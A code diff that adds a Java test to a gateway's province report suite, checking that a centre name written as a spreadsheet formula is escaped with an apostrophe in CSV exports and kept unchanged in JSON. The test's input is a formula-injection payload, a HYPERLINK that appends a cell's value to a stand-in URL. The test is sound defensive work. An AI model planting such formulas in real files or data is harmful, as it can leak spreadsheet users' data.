@@ -8,11 +8,13 @@ import static vn.onedesk.gateway.reports.RangeReportTest.line;
 import static vn.onedesk.gateway.reports.RangeReportTest.texts;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import io.vertx.core.json.JsonObject;
 import java.io.StringReader;
 import java.net.http.HttpResponse;
 import java.time.Clock;
 import java.time.LocalDate;
 import java.util.ArrayList;
+import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Optional;
@@ -187,6 +189,39 @@ class ProvinceReportTest {
         } finally { // the other tests expect the two centres of the configuration
             HttpResponse<String> removed = HttpCalls.call("DELETE", gateway.httpUri("/api/v1/admin/centres/xa-moi"),
                     null, "Authorization", admin);
+            assertEquals(204, removed.statusCode(), removed.body());
+        }
+    }
+
+    @Test
+    void aNameThatASpreadsheetWouldRunAsAFormulaIsTextInTheCsvAndAsGivenInTheJson() throws Exception {
+        String admin = Logins.bearer(Logins.admin(gateway));
+        String formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Trung tâm xã\")";
+        HttpResponse<String> created = HttpCalls.call("POST", gateway.httpUri("/api/v1/admin/centres"),
+                new JsonObject().put("id", "xa-cong-thuc").put("name", formula).put("ticketsOnlyInSessions", false)
+                        .encode(), "Authorization", admin);
+        assertEquals(201, created.statusCode(), created.body());
+        try {
+            HttpResponse<String> csv = HttpCalls.get(gateway.httpUri(MARCH + "&format=csv"), "Authorization", admin);
+            assertEquals(200, csv.statusCode(), csv.body());
+            Map<String, String> names = new LinkedHashMap<>();
+            try (CSVParser parser = CSVParser.parse(new StringReader(csv.body().substring(1)),
+                    CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build())) {
+                parser.getRecords().forEach(r -> names.put(r.get("Trung tâm"), r.get("Tên")));
+            }
+            assertEquals("'" + formula, names.get("xa-cong-thuc"), "an apostrophe keeps it text: " + names);
+            assertEquals("Bộ phận một cửa huyện (thử nghiệm)", names.get(HUYEN), "other names as they are");
+            assertEquals("3 trung tâm", names.get(""), "and the figures too");
+
+            HttpResponse<String> own = HttpCalls.get(gateway.httpUri("/api/v1/centres/xa-cong-thuc/reports"
+                    + "?from=2025-03-01&to=2025-03-01&by=day&format=csv"), "Authorization", admin);
+            assertTrue(own.body().contains(",Toàn trung tâm,xa-cong-thuc,\"'=HYPERLINK("), own.body());
+
+            JsonNode json = json(HttpCalls.get(gateway.httpUri(MARCH), "Authorization", admin));
+            assertEquals(formula, line(json, "centre", "xa-cong-thuc").path("name").asText(), "JSON is for programs");
+        } finally { // the other tests expect the two centres of the configuration
+            HttpResponse<String> removed = HttpCalls.call("DELETE",
+                    gateway.httpUri("/api/v1/admin/centres/xa-cong-thuc"), null, "Authorization", admin);
             assertEquals(204, removed.statusCode(), removed.body());
         }
     }
